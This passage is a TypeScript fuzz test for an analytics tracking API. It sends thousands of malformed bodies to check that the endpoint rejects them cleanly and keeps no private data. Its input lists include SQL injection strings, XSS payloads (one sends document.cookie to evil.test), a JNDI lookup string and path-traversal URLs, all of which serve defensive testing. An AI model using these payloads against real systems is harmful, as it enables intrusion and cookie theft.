/**
 * Fuzzing POST /api/analytics/track (issue 3): ≥ 10,000 generated malformed or hostile
 * bodies, each sent through Payload's real REST handler, must get 202 or a 4xx with a
 * JSON `error` — never a 5xx — and must buffer exactly one event when accepted and none
 * otherwise. Every request goes through `rawRequest` (Payload's `handleEndpoints`), one at
 * a time so each one's effect on the stream is measured alone: 10,000 take about 10 s here,
 * so nothing needs to bypass Payload. Then 1,000 hostile server-side events (bad dates
 * above all) through `payload.analytics.track`.
 *
 * Seeded, so a failure replays: fast-check prints the seed, the path and the shrunk case;
 * `FUZZ_SEED=<n>` explores another seed.
 */
import type { Payload } from 'payload'

import { isUtf8 } from 'node:buffer'
import { randomBytes } from 'node:crypto'
import fc from 'fast-check'
import { Redis } from 'ioredis'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'

import type { DemoSite } from '../helpers/fixtures.js'

import { MAX_EVENT_VALUE } from '../../src/core/dailyStats.js'
import { AnalyticsInputError } from '../../src/runtime.js'
import { demoSites } from '../helpers/fixtures.js'
import { bootPayload } from '../helpers/payload.js'
import { rawRequest } from '../helpers/rest.js'
import { streamEvents, streamRaw } from '../helpers/stream.js'

const SEED = Number(process.env.FUZZ_SEED ?? 20_260_611)
const RUNS = 10_000
const SERVER_RUNS = 1_000
const MAX_BODY = 8 * 1024

// The client addresses and user-agents sent; none of them, nor a recognisable part, may reach the stream.
const CLIENT_IPS = ['198.51.100.77', '2001:db8:abcd:12::77', '203.0.113.9']
const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36'
const IPHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1'
const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'
const HEADLESS = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/126.0.0.0 Safari/537.36'
const LONG_UA = `${CHROME} ${'Ext/1.0 '.repeat(500)}`
/** Page URLs carry these too: credentials and ad click ids, which are never kept either. */
const URL_SECRETS = ['s3cret-pw', 'CLICKID-5ecret']
const FORBIDDEN_IN_STREAM = ['198.51.100', '2001:db8:abcd', 'abcd:12', '203.0.113', 'Mozilla/5.0', 'AppleWebKit', 'KHTML', 'Win64; x64', 'iPhone OS 17_5', 'Ext/1.0', ...URL_SECRETS]
/** User-agents of ordinary browsers: a valid event from them, without DNT/GPC, must be stored. */
const HUMAN_UAS: ReadonlySet<string> = new Set([CHROME, IPHONE])

const SQL = [
  "' OR '1'='1",
  "1; DROP TABLE analytics_events; --",
  "'); DELETE FROM sites WHERE ''='",
  '" OR ""="',
  "1' UNION SELECT email, hash FROM users --",
  "admin'--",
  "';SELECT pg_sleep(10);--",
  "E'\\\\x27'",
  '$1::text',
  '/**/OR/**/1=1',
  "1 AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
  "%27%20OR%201%3D1",
]
const HTML = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('x')",
  '<svg/onload=alert(1)>',
  '</script><script>fetch("//evil.test?c="+document.cookie)</script>',
  '<!--',
  ']]>',
  '{{constructor.constructor("alert(1)")()}}',
  '${jndi:ldap://evil.test/a}',
]
const ODD = ['../../etc/passwd', '%00', '%s%s%n', 'null', 'undefined', 'NaN', 'true', '[]', '{}', '', ' ', '🙂', 'café', '\u202e', '\u200b', '\u2028', 'Ω≈ç√', '𝕳𝖊𝖑𝖑𝖔', '__proto__', 'constructor']
const HOSTILE = [...SQL, ...HTML, ...ODD]

const CATEGORIES = [
  'valid',
  'mutated',
  'wrong-types',
  'huge-strings',
  'oversize',
  'deep-nesting',
  'proto-keys',
  'invalid-utf8',
  'bom-nul-control',
  'lone-surrogates',
  'sql-html',
  'bad-urls',
  'bad-numbers',
  'non-object',
  'empty',
  'unknown-site',
  'hostname-not-allowed',
  'bad-dates',
] as const
type Category = (typeof CATEGORIES)[number]

interface FuzzBody {
  /** Statuses this body may get when it is within the size limit (over it: 413, always). */
  allowed: readonly number[]
  body: string | Uint8Array | undefined
  category: Category
  /** Which generator branch, for counts and for reading a failure. */
  variant: string
}

interface FuzzCase extends FuzzBody {
  /** Where to cut the body when it is sent as a stream of chunks; null: in one piece. */
  chunks: null | number[]
  headers: Record<string, string>
}

/** A string no generator produces, to find and replace in JSON text. */
const MARKER = 'MARKER-7f3a9c'

const keyPrefix = `fz${randomBytes(4).toString('hex')}:`
let payload: Payload
let redis: Redis
let sites: DemoSite[]

const streamLength = () => redis.xlen(`${keyPrefix}{events}`)
const encoder = new TextEncoder()
const byteLength = (body: FuzzCase['body']) => (body === undefined ? 0 : typeof body === 'string' ? encoder.encode(body).byteLength : body.byteLength)

/** `{...event, <member>}` as JSON text, for members JSON.stringify cannot write (raw numbers, escapes). */
const withMember = (event: object, member: string): string => {
  const text = JSON.stringify(event)
  return text === '{}' ? `{${member}}` : `${text.slice(0, -1)},${member}}`
}

/** Inserts raw text into a JSON text at `at`. */
const splice = (text: string, at: number, insert: string) => text.slice(0, at) + insert + text.slice(at)

/** The body as a stream of chunks cut at the given offsets (modulo its length). */
function chunked(body: string | Uint8Array, cuts: number[]): ReadableStream<Uint8Array> {
  const bytes = typeof body === 'string' ? encoder.encode(body) : body
  const offsets = [...new Set(cuts.map((cut) => cut % (bytes.byteLength + 1)))].sort((a, b) => a - b)
  const pieces = [...offsets, bytes.byteLength].map((end, i, ends) => bytes.slice(i === 0 ? 0 : ends[i - 1], end))
  return new ReadableStream({
    pull(controller) {
      const piece = pieces.shift()
      if (piece === undefined) controller.close()
      else controller.enqueue(piece)
    },
  })
}

const concatBytes = (...parts: Uint8Array[]): Uint8Array => {
  const out = new Uint8Array(parts.reduce((sum, part) => sum + part.byteLength, 0))
  let offset = 0
  for (const part of parts) {
    out.set(part, offset)
    offset += part.byteLength
  }
  return out
}

function arbitraries(all: DemoSite[]) {
  const domains = all.map((site) => site.domain)
  const ids = all.map((site) => String(site.id))
  const site = fc.constantFrom(...all)
  const hostile = fc.constantFrom(...HOSTILE)

  const siteRef = (of: DemoSite) => fc.constantFrom(String(of.id), of.domain, of.domain.toUpperCase())
  const hostFor = (of: DemoSite) => fc.constantFrom(of.domain, `www.${of.domain}`, `a.b-c.${of.domain}`, `${of.domain.toUpperCase()}.`, 'localhost', 'localhost:3000')
  const eventType = fc.oneof(
    fc.constantFrom('pageview', 'lead.created', 'form.submit', 'automation.run', 'ai.usage', 'export.completed'),
    fc.stringMatching(/^[a-zA-Z][\w.:/-]{0,63}$/),
  )
  const query = fc.oneof(
    fc.constant(''),
    fc.webQueryParameters().map((q) => `?${q}`),
    fc
      .tuple(fc.constantFrom('newsletter', 'google', 'x y', '%F0%9F%99%82'), fc.constantFrom('email', 'cpc', ''), fc.constantFrom('gclid', 'fbclid', 'ref', 'source'))
      .map(([source, medium, extra]) => `?utm_source=${source}&utm_medium=${medium}&${extra}=CLICKID-5ecret`),
  )
  const fragment = fc.oneof(fc.constant(''), fc.webFragments().map((f) => `#${f}`))
  const pageUrl = (of: DemoSite) =>
    fc
      .tuple(fc.constantFrom('https', 'http', 'HTTPS'), fc.constantFrom('', '', '', 'alice:s3cret-pw@'), hostFor(of), fc.webPath(), query, fragment)
      .map(([scheme, auth, host, path, q, f]) => `${scheme}://${auth}${host}${path.startsWith('/') || path === '' ? path : `/${path}`}${q}${f}`)
      .filter((url) => url.length <= 2048)
  const referrer = fc.oneof(
    fc.constantFrom('https://www.google.com/', 'https://news.ycombinator.com/item?id=1', 'android-app://com.slack/', '', 'not a url', 'https://t.co/x'),
    fc.webUrl().filter((url) => url.length <= 2048),
  )
  const propKey = fc.string({ maxLength: 64, minLength: 1 }).filter((key) => !['__proto__', 'constructor', 'prototype'].includes(key))
  const propValue = fc.oneof(fc.string({ maxLength: 256 }), fc.double({ noDefaultInfinity: true, noNaN: true }), fc.boolean(), fc.constant(null))
  const props = fc.dictionary(propKey, propValue, { maxKeys: 30 })
  const width = fc.integer({ max: 100_000, min: 0 })
  // Valid for any type, ai.usage included (never negative there); values outside are bad-numbers' business.
  const value = fc.double({ max: MAX_EVENT_VALUE, min: 0, noNaN: true })

  /** A structurally valid event for one of the seeded sites (plain object, ASCII unless the generators say otherwise). */
  const eventFor = (of: DemoSite) =>
    fc.record(
      { p: props, r: referrer, s: siteRef(of), t: eventType, u: pageUrl(of), v: value, w: width },
      { requiredKeys: ['s', 't', 'u'] },
    )
  const event = site.chain(eventFor)
  /** As `event`, but small and plain ASCII, for byte-level surgery. */
  const asciiEvent = site.chain((of) =>
    fc.record(
      { p: fc.dictionary(fc.stringMatching(/^[a-z]{1,8}$/), fc.oneof(fc.stringMatching(/^[ -~]{0,20}$/), fc.integer()), { maxKeys: 3 }), s: siteRef(of), t: eventType, u: pageUrl(of), w: width },
      { requiredKeys: ['s', 't', 'u'] },
    ),
  )

  const notString = fc.oneof(
    fc.integer(),
    fc.double(),
    fc.boolean(),
    fc.constant(null),
    fc.array(fc.jsonValue(), { maxLength: 4 }),
    fc.dictionary(fc.string({ maxLength: 8 }), fc.jsonValue(), { maxKeys: 4 }),
  )
  const wrongTyped: Record<string, fc.Arbitrary<unknown>> = {
    p: fc.oneof(fc.string(), fc.integer(), fc.boolean(), fc.constant(null), fc.array(fc.jsonValue(), { maxLength: 4 })),
    r: notString,
    s: notString,
    t: notString,
    u: notString,
    v: fc.oneof(fc.string(), fc.boolean(), fc.constant(null), fc.array(fc.integer(), { maxLength: 3 }), fc.dictionary(fc.string(), fc.integer(), { maxKeys: 3 })),
    w: fc.oneof(
      fc.string(),
      fc.boolean(),
      fc.constant(null),
      fc.array(fc.integer(), { maxLength: 3 }),
      fc.integer({ min: 100_001 }),
      fc.integer({ max: -1 }),
      fc.double({ max: 99_999, min: 0.001, noNaN: true }).filter((n) => !Number.isInteger(n)),
    ),
  }
  const keys = Object.keys(wrongTyped)

  const b = (category: Category, variant: string, body: FuzzBody['body'], allowed: readonly number[]): FuzzBody => ({ allowed, body, category, variant })
  const ANY = [202, 400, 403, 404]

  const valid = event.map((e) => b('valid', 'event', JSON.stringify(e), [202]))

  const mutated = fc.oneof(
    fc
      .tuple(event, fc.constantFrom(...keys, 'x', 'S', 'ts', ''), fc.oneof(fc.jsonValue(), hostile, fc.string({ unit: 'binary' })))
      .map(([e, key, v]) => b('mutated', `set ${key || '""'}`, JSON.stringify({ ...e, [key]: v }), ANY)),
    fc.tuple(event, fc.constantFrom('s', 't', 'u')).map(([e, key]) => {
      const copy: Record<string, unknown> = { ...e }
      delete copy[key]
      return b('mutated', `missing ${key}`, JSON.stringify(copy), [400])
    }),
    fc.tuple(event, fc.constantFrom(...ids, ...domains, '999999')).map(([e, s]) => b('mutated', 'duplicate s', `{"s":${JSON.stringify(s)},${JSON.stringify(e).slice(1)}`, ANY)),
    fc.tuple(event, fc.constantFrom(29, 30, 31, 100, 1000)).map(([e, n]) => {
      const p = Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i]))
      return b('mutated', `${n} props`, JSON.stringify({ ...e, p }), n <= 30 ? [202] : [400])
    }),
    fc.tuple(event, fc.nat()).map(([e, cut]) => {
      const text = JSON.stringify(e)
      return b('mutated', 'truncated', text.slice(0, cut % text.length), [400])
    }),
  )

  const wrongTypes = fc
    .tuple(event, fc.subarray(keys, { minLength: 1 }))
    .chain(([e, bad]) => fc.tuple(fc.constant(e), fc.constant(bad), fc.tuple(...bad.map((key) => wrongTyped[key]!))))
    .map(([e, bad, values]) => {
      const copy: Record<string, unknown> = { ...e }
      bad.forEach((key, i) => (copy[key] = values[i]))
      return b('wrong-types', bad.join(','), JSON.stringify(copy), [400])
    })

  const LIMITS: Record<string, number> = { p: 256, pk: 64, r: 2048, s: 253, t: 64, u: 2048 }
  const hugeStrings = fc
    .tuple(
      event,
      fc.constantFrom('s', 't', 'u', 'r', 'p', 'pk', 'x'),
      fc.constantFrom(63, 64, 65, 252, 253, 254, 255, 256, 257, 1000, 2000, 2047, 2048, 2049, 4000, 7000, 8100, 8200, 9000, 20_000, 100_000),
      fc.constantFrom('a', 'é', '€', '🙂', '\t'),
    )
    .map(([e, field, length, unit]) => {
      // zod measures strings in code points (an emoji is one), so the limits do too.
      const codePoints = (value: string) => [...value].length
      const copy: Record<string, unknown> = { ...e }
      let value = unit.repeat(length)
      if (field === 'u') {
        const base = `https://${new URL(e.u).host}/`
        value = base + unit.repeat(Math.max(0, length - codePoints(base)))
        copy.u = value
      } else if (field === 'p') copy.p = { k: value }
      else if (field === 'pk') copy.p = { [value]: 1 }
      else copy[field] = value
      const over = field === 'x' || codePoints(value) > LIMITS[field]!
      return b('huge-strings', `${field} ${length}×${unit}`, JSON.stringify(copy), over ? [400] : ANY)
    })

  const oversize = fc.oneof(
    // Whitespace padding keeps the event valid, so the exact limit must pass and one byte more must not.
    fc.tuple(event.filter((e) => JSON.stringify(e).length < MAX_BODY - 16), fc.integer({ max: 1, min: -1 })).map(([e, delta]) => {
      const text = JSON.stringify(e)
      return b('oversize', `padded to ${MAX_BODY + delta}`, text + ' '.repeat(MAX_BODY + delta - encoder.encode(text).byteLength), [202])
    }),
    // Fewer characters than the limit, more bytes: the limit counts bytes.
    fc.tuple(event, fc.constantFrom('€', '🙂', 'é')).map(([e, unit]) => b('oversize', `multibyte ${unit}`, JSON.stringify({ ...e, r: unit.repeat(Math.ceil(8300 / encoder.encode(unit).byteLength)) }), [])),
    fc.constantFrom(9000, 65_536, 1_000_000).map((size) => b('oversize', `${size} bytes`, new Uint8Array(size).fill(0x20), [])),
    event.map((e) => b('oversize', 'depth 10,000 in a member', withMember(e, `"x":${'['.repeat(10_000)}${']'.repeat(10_000)}`), [])),
  )

  const deepNesting = fc.oneof(
    fc.integer({ max: 4096, min: 1 }).map((depth) => b('deep-nesting', 'arrays', '['.repeat(depth) + ']'.repeat(depth), [400])),
    fc.integer({ max: 1300, min: 1 }).map((depth) => b('deep-nesting', 'objects', '{"a":'.repeat(depth) + '1' + '}'.repeat(depth), [400])),
    fc.tuple(event, fc.integer({ max: 3000, min: 2 }), fc.constantFrom('p', 'u', 'v', 'w')).map(([e, depth, key]) => {
      const copy: Record<string, unknown> = { ...e }
      delete copy[key]
      const nested = key === 'p' ? `{"k":${'['.repeat(depth)}${']'.repeat(depth)}}` : '['.repeat(depth) + ']'.repeat(depth)
      return b('deep-nesting', `in ${key}`, withMember(copy, `"${key}":${nested}`), [400])
    }),
    fc.integer({ max: MAX_BODY, min: 1 }).map((depth) => b('deep-nesting', 'unbalanced', '['.repeat(depth), [400])),
    fc.constant(b('deep-nesting', 'depth 10,000', '['.repeat(10_000) + ']'.repeat(10_000), [])),
  )

  const reserved = fc.constantFrom('__proto__', 'constructor', 'prototype')
  const protoKeys = fc.oneof(
    fc.tuple(event, reserved).map(([e, key]) => b('proto-keys', `top-level ${key}`, withMember(e, `"${key}":{"polluted":"yes"}`), [400])),
    fc.tuple(event, reserved).map(([e, key]) => b('proto-keys', `prop ${key}`, withMember({ ...e, p: undefined }, `"p":{"${key}":{"polluted":"yes"},"ok":1}`), [400])),
    fc.tuple(event, reserved).map(([e, key]) => b('proto-keys', `prop ${key} primitive`, withMember({ ...e, p: undefined }, `"p":{"${key}":"x"}`), [400])),
    event.map((e) => b('proto-keys', 'escaped __proto__', withMember({ ...e, p: undefined }, '"p":{"\\u005f\\u005fproto\\u005f\\u005f":{"polluted":"yes"}}'), [400])),
    event.map((e) => b('proto-keys', 'constructor.prototype', withMember({ ...e, p: undefined }, '"p":{"constructor":{"prototype":{"polluted":"yes"}}}'), [400])),
    fc.tuple(event, reserved).map(([e, key]) => b('proto-keys', `s ${key}`, JSON.stringify({ ...e, s: key }), [404])),
    fc.tuple(event, reserved).map(([e, key]) => b('proto-keys', `prop value ${key}`, JSON.stringify({ ...e, p: { k: key } }), [202])),
  )

  const BAD_UTF8 = [[0xff], [0xfe], [0xc0, 0xaf], [0xe0, 0x80, 0xaf], [0xed, 0xa0, 0x80], [0xed, 0xbf, 0xbf], [0xf4, 0x90, 0x80, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0x80], [0xbf], [0xc3], [0xe2, 0x82], [0xf0, 0x9f, 0x99]]
  const invalidUtf8 = fc.oneof(
    fc.tuple(asciiEvent, fc.constantFrom(...BAD_UTF8), fc.nat()).map(([e, bad, at]) => {
      const bytes = encoder.encode(JSON.stringify(e))
      const i = at % (bytes.byteLength + 1)
      return b('invalid-utf8', `splice ${bad.map((x) => x.toString(16)).join(' ')}`, concatBytes(bytes.slice(0, i), new Uint8Array(bad), bytes.slice(i)), [400])
    }),
    asciiEvent.map((e) => {
      const text = JSON.stringify(e)
      const utf16 = new Uint8Array(2 + text.length * 2)
      utf16.set([0xff, 0xfe])
      for (let i = 0; i < text.length; i++) utf16[2 + i * 2] = text.charCodeAt(i)
      return b('invalid-utf8', 'UTF-16LE with BOM', utf16, [400])
    }),
    asciiEvent.map((e) => b('invalid-utf8', 'latin1 é', new Uint8Array(Buffer.from(JSON.stringify({ ...e, p: { k: 'café' } }), 'latin1')), [400])),
    fc.uint8Array({ maxLength: 512, minLength: 1 }).filter((bytes) => !isUtf8(bytes)).map((bytes) => b('invalid-utf8', 'random bytes', bytes, [400])),
  )

  const CONTROL = fc.integer({ max: 0x1f, min: 0 }).chain((code) => fc.constantFrom(String.fromCharCode(code), '\u007f', '\u0085', '\u009f'))
  const bomNulControl = fc.oneof(
    event.map((e) => b('bom-nul-control', 'BOM + JSON', `\ufeff${JSON.stringify(e)}`, [202])),
    event.map((e) => b('bom-nul-control', 'BOM bytes + JSON', concatBytes(new Uint8Array([0xef, 0xbb, 0xbf]), encoder.encode(JSON.stringify(e))), [202])),
    // One leading BOM is allowed (the parser strips it); a second is not JSON.
    event.map((e) => b('bom-nul-control', 'two BOMs', `\ufeff\ufeff${JSON.stringify(e)}`, [400])),
    event.map((e) => b('bom-nul-control', 'three BOMs', `\ufeff\ufeff\ufeff${JSON.stringify(e)}`, [400])),
    event.map((e) => b('bom-nul-control', 'BOM between tokens', `{\ufeff${JSON.stringify(e).slice(1)}`, [400])),
    event.map((e) => b('bom-nul-control', 'NUL after JSON', `${JSON.stringify(e)}\u0000`, [400])),
    event.map((e) => b('bom-nul-control', 'NUL before JSON', `\u0000${JSON.stringify(e)}`, [400])),
    fc.tuple(event, CONTROL).map(([e, c]) => {
      // JSON whitespace is only space, tab, LF and CR.
      const ok = c === '\t' || c === '\n' || c === '\r'
      return b('bom-nul-control', `raw U+${c.charCodeAt(0).toString(16)} between tokens`, splice(JSON.stringify(e), 1, c), ok ? [202] : [400])
    }),
    fc.tuple(event, CONTROL).map(([e, c]) => {
      // Raw C0 inside a JSON string is a syntax error; DEL and C1 are legal JSON but unsafe in a URL.
      const text = JSON.stringify({ ...e, u: `https://${new URL(e.u).host}/a${'\u0001'}b` }).replace('\\u0001', c)
      return b('bom-nul-control', `raw U+${c.charCodeAt(0).toString(16)} in u`, text, [400])
    }),
    fc.tuple(event, CONTROL, fc.constantFrom('s', 't', 'u', 'r', 'pk', 'p')).map(([e, c, field]) => {
      const copy: Record<string, unknown> = { ...e }
      if (field === 'u') copy.u = `${e.u}${c}`
      else if (field === 'p') copy.p = { k: `a${c}b` }
      else if (field === 'pk') copy.p = { [`k${c}`]: 1 }
      else copy[field] = `${String(copy[field] ?? 'x')}${c}`
      // Free text (prop values) may hold tab, LF and CR; nothing else may hold any control character.
      const ok = field === 'p' && (c === '\t' || c === '\n' || c === '\r')
      return b('bom-nul-control', `escaped U+${c.charCodeAt(0).toString(16)} in ${field}`, JSON.stringify(copy), ok ? [202] : [400])
    }),
    fc.tuple(event, fc.constantFrom('\ufeff', '\u2028', '\u2029', '\u200b', '\ufffd', '\ufffe')).map(([e, c]) => b('bom-nul-control', `U+${c.charCodeAt(0).toString(16)} in p and u`, JSON.stringify({ ...e, p: { k: `a${c}` }, u: `https://${new URL(e.u).host}/${c}` }), [202])),
  )

  const lone = fc.constantFrom('\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800')
  const loneSurrogates = fc.oneof(
    fc.tuple(event, lone, fc.constantFrom('s', 't', 'u', 'r', 'pk', 'p')).map(([e, half, field]) => {
      const copy: Record<string, unknown> = { ...e }
      if (field === 'u') copy.u = `${e.u}${half}`
      else if (field === 'p') copy.p = { k: `🙂${half}` }
      else if (field === 'pk') copy.p = { [`k${half}`]: 1 }
      else copy[field] = `${String(copy[field] ?? 'x')}${half}`
      // JSON.stringify escapes lone surrogates (\ud800), so the bytes are valid UTF-8 and JSON.parse brings the half back.
      return b('lone-surrogates', `escaped in ${field}`, JSON.stringify(copy), [400])
    }),
    // Sent as a JS string, a lone half is encoded as U+FFFD: valid UTF-8, a valid event.
    fc.tuple(event, lone).map(([e, half]) => b('lone-surrogates', 'raw (encoded as U+FFFD)', JSON.stringify({ ...e, p: { k: MARKER } }).replace(`"${MARKER}"`, `"${half}"`), [202])),
    event.map((e) => b('lone-surrogates', 'valid pair escaped', JSON.stringify({ ...e, p: { k: MARKER } }).replace(`"${MARKER}"`, '"\\ud83d\\ude42"'), [202])),
  )

  const badPropKey = (key: string) => key === '' || key.length > 64 || ['__proto__', 'constructor', 'prototype'].includes(key)
  const sqlHtml = fc.tuple(event, hostile, fc.constantFrom('s', 't', 'u-path', 'u-query', 'r', 'p', 'pk')).map(([e, h, field]) => {
    const copy: Record<string, unknown> = { ...e }
    const host = new URL(e.u).host
    let allowed: readonly number[] = [202]
    if (field === 's') {
      copy.s = h
      allowed = [400, 404]
    } else if (field === 't') {
      copy.t = h
      allowed = [202, 400]
    } else if (field === 'u-path') copy.u = `https://${host}/${h}`
    else if (field === 'u-query') copy.u = `https://${host}/?utm_source=${encodeURIComponent(h)}&utm_campaign=${h}&ref=${h}`
    else if (field === 'r') copy.r = h
    else if (field === 'p') {
      copy.p = { [h || 'k']: h, q: h }
      allowed = badPropKey(h || 'k') ? [400] : [202]
    } else {
      copy.p = { [h]: 1 }
      allowed = badPropKey(h) ? [400] : [202]
    }
    return b('sql-html', field, JSON.stringify(copy), allowed)
  })

  const BAD_URLS = [
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)',
    'data:text/html,<script>alert(1)</script>',
    'data:,',
    '/relative/path',
    'relative',
    '//shop.acme.test/protocol-relative',
    'shop.acme.test',
    'ftp://shop.acme.test/',
    'file:///etc/passwd',
    'ws://shop.acme.test/',
    'http://',
    'https://',
    'http:///path',
    'http:/shop.acme.test/',
    'https:\\\\shop.acme.test',
    ' https://shop.acme.test/',
    'https://shop.acme.test /',
    'https://exa mple.test/',
    'http://[::1]/',
    'http://[2001:db8::1]:8080/',
    'http://[::ffff:127.0.0.1]/',
    'http://[fe80::1%25eth0]/',
    'http://[::1',
    'http://127.0.0.1/',
    'http://0x7f.1/',
    'http://2130706433/',
    `https://${'a'.repeat(2030)}.test/`,
    `https://${`${'a'.repeat(63)}.`.repeat(28)}test/`,
    `https://${'a'.repeat(70)}.shop.acme.test.evil.test/`,
    'https://shop.acme.test:99999/',
    'https://shop.acme.test:-1/',
    'http://shop.acme.test@evil.test/',
    'http://evil.test\\@shop.acme.test/',
    'http://evil.test#.shop.acme.test',
    'http://evil.test?.shop.acme.test',
    'http://shop.acme.test.evil.test/',
    'http://evil.test%2f.shop.acme.test/',
    'http://%zz/',
    'http://xn--80ak6aa92e.com/',
    'http://ex%61mple.test/',
  ]
  const badUrls = fc.oneof(
    fc.tuple(event, fc.constantFrom(...BAD_URLS)).map(([e, url]) => b('bad-urls', 'u', JSON.stringify({ ...e, u: url }), [400, 403])),
    fc.tuple(event, fc.constantFrom(...BAD_URLS)).map(([e, url]) => b('bad-urls', 'r', JSON.stringify({ ...e, r: url }), [202])),
    fc.tuple(event, fc.webUrl({ validSchemes: ['ftp', 'ws', 'javascript', 'data', 'file'] })).map(([e, url]) => b('bad-urls', 'u other scheme', JSON.stringify({ ...e, u: url }), [400])),
    fc.tuple(event, fc.webUrl().filter((url) => url.length <= 2048 && !domains.some((d) => new URL(url).hostname.endsWith(d)))).map(([e, url]) => b('bad-urls', 'u foreign host', JSON.stringify({ ...e, u: url }), [400, 403])),
  )

  const NUMBERS = ['1e309', '-1e309', '1e-400', '-0', '0.0', '1E3', '100000', '100001', '99999.5', '1.0', '12345678901234567890', '0x10', 'NaN', 'Infinity', '-Infinity', '+1', '01', '.5', '1.', '1e', '-', '"NaN"', '"1e309"', '"42"', '-1', '9007199254740993', '4.9e-324', '1.7976931348623157e308', '-1.7976931348623157e308', 'true', 'null', '[1]', '{"n":1}']
  const badNumbers = fc.tuple(event, fc.constantFrom('w', 'v'), fc.oneof(fc.constantFrom(...NUMBERS), fc.double().map(String))).map(([e, key, raw]) => {
    const copy: Record<string, unknown> = { ...e }
    delete copy[key]
    let parsed: unknown
    let allowed: readonly number[] = [400]
    try {
      parsed = JSON.parse(raw)
      const ok =
        typeof parsed === 'number' &&
        Number.isFinite(parsed) &&
        (key === 'v'
          ? Math.abs(parsed) <= MAX_EVENT_VALUE && (parsed >= 0 || e.t !== 'ai.usage')
          : Number.isSafeInteger(parsed) && parsed >= 0 && parsed <= 100_000)
      allowed = ok ? [202] : [400]
    } catch {
      allowed = [400]
    }
    return b('bad-numbers', `${key}=${raw}`, withMember(copy, `"${key}":${raw}`), allowed)
  })

  const nonObject = fc.oneof(
    fc.jsonValue().filter((v) => typeof v !== 'object' || v === null || Array.isArray(v)).map((v) => b('non-object', 'json value', JSON.stringify(v), [400])),
    event.map((e) => b('non-object', 'array of event', JSON.stringify([e]), [400])),
    event.map((e) => b('non-object', 'double-encoded', JSON.stringify(JSON.stringify(e)), [400])),
    fc.constantFrom('{}', '[]', 'null', 'true', '0', '""', '[{}]', '{"":""}').map((text) => b('non-object', text, text, [400])),
    event.map((e) => b('non-object', 'form-encoded', new URLSearchParams(Object.entries(e).map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v)])).toString(), [400])),
  )

  const empty = fc.constantFrom(undefined, '', ' ', '\n\t\r ', '\ufeff', '\ufeff  ', '\u00a0', '\u2028', '\u0000').map((body) => b('empty', JSON.stringify(body) ?? 'no body', body, [400]))

  const known = new Set([...ids, ...domains])
  const unknownSite = fc
    .tuple(
      event,
      fc.oneof(
        fc.integer({ max: 2 ** 31, min: 10_000 }).map(String),
        fc.constantFrom('0', '-1', '01', '1.0', '_', 'acme.test', 'shop.acme', 'www.shop.acme.test', 'evil.test', 'a'.repeat(253)),
        fc.stringMatching(/^[a-z0-9][a-z0-9.-]{0,40}\.(test|example|com)$/),
        fc.uuid(),
      ),
    )
    .filter(([, s]) => !known.has(s.toLowerCase()))
    .map(([e, s]) => b('unknown-site', 's', JSON.stringify({ ...e, s }), [404]))

  const hostnameNotAllowed = site.chain((of) =>
    fc
      .tuple(
        eventFor(of),
        fc.oneof(
          fc.constantFrom(
            ...domains.filter((d) => d !== of.domain),
            'evil.test',
            'acme.test',
            `${of.domain}.evil.test`,
            `not${of.domain}`,
            `${of.domain.replace('.', '-')}`,
            'xlocalhost',
            'localhost.evil.test',
            '127.0.0.1',
            '[::1]',
            '[2001:db8::1]',
          ),
          fc.domain().filter((d) => !domains.some((known) => d === known || d.endsWith(`.${known}`)) && d !== 'localhost'),
        ),
      )
      .map(([e, host]) => b('hostname-not-allowed', 'u', JSON.stringify({ ...e, u: `https://${host}/page` }), [403])),
  )

  const BAD_DATES = ['"2024-02-30T00:00:00Z"', '"0000-00-00"', '"not a date"', '-8640000000000001', '8640000000000001', '"+275760-09-13T00:00:00.001Z"', '"Invalid Date"', 'null', '"2024-13-01"', '1e309', '"1970-01-01T00:00:00.000Z"', '{"$date":"2024-01-01"}', `"${new Date(Date.now() + 3_600_000).toISOString()}"`, `${Date.now() - 400 * 86_400_000}`]
  const badDates = fc.oneof(
    fc.tuple(event, fc.constantFrom('ts', 'timestamp', 'date', 'd', 'time'), fc.constantFrom(...BAD_DATES)).map(([e, key, raw]) => b('bad-dates', `${key}=${raw}`, withMember(e, `"${key}":${raw}`), [400])),
    fc.tuple(event, fc.constantFrom('w', 'v'), fc.constantFrom(...BAD_DATES.filter((raw) => raw.startsWith('"')))).map(([e, key, raw]) => {
      const copy: Record<string, unknown> = { ...e }
      delete copy[key]
      return b('bad-dates', `${key}=${raw}`, withMember(copy, `"${key}":${raw}`), [400])
    }),
  )

  const body: fc.Arbitrary<FuzzBody> = fc.oneof(
    { arbitrary: valid, weight: 8 },
    { arbitrary: mutated, weight: 10 },
    { arbitrary: wrongTypes, weight: 8 },
    { arbitrary: hugeStrings, weight: 6 },
    { arbitrary: oversize, weight: 3 },
    { arbitrary: deepNesting, weight: 4 },
    { arbitrary: protoKeys, weight: 5 },
    { arbitrary: invalidUtf8, weight: 5 },
    { arbitrary: bomNulControl, weight: 6 },
    { arbitrary: loneSurrogates, weight: 4 },
    { arbitrary: sqlHtml, weight: 8 },
    { arbitrary: badUrls, weight: 6 },
    { arbitrary: badNumbers, weight: 5 },
    { arbitrary: nonObject, weight: 4 },
    { arbitrary: empty, weight: 2 },
    { arbitrary: unknownSite, weight: 4 },
    { arbitrary: hostnameNotAllowed, weight: 4 },
    { arbitrary: badDates, weight: 3 },
  )

  /** `arb` in `percent` % of cases, else no header. */
  const sometimes = <T>(arb: fc.Arbitrary<T>, percent: number) =>
    fc.oneof({ arbitrary: arb, weight: percent }, { arbitrary: fc.constant(undefined), weight: 100 - percent })
  const headers = fc
    .record({
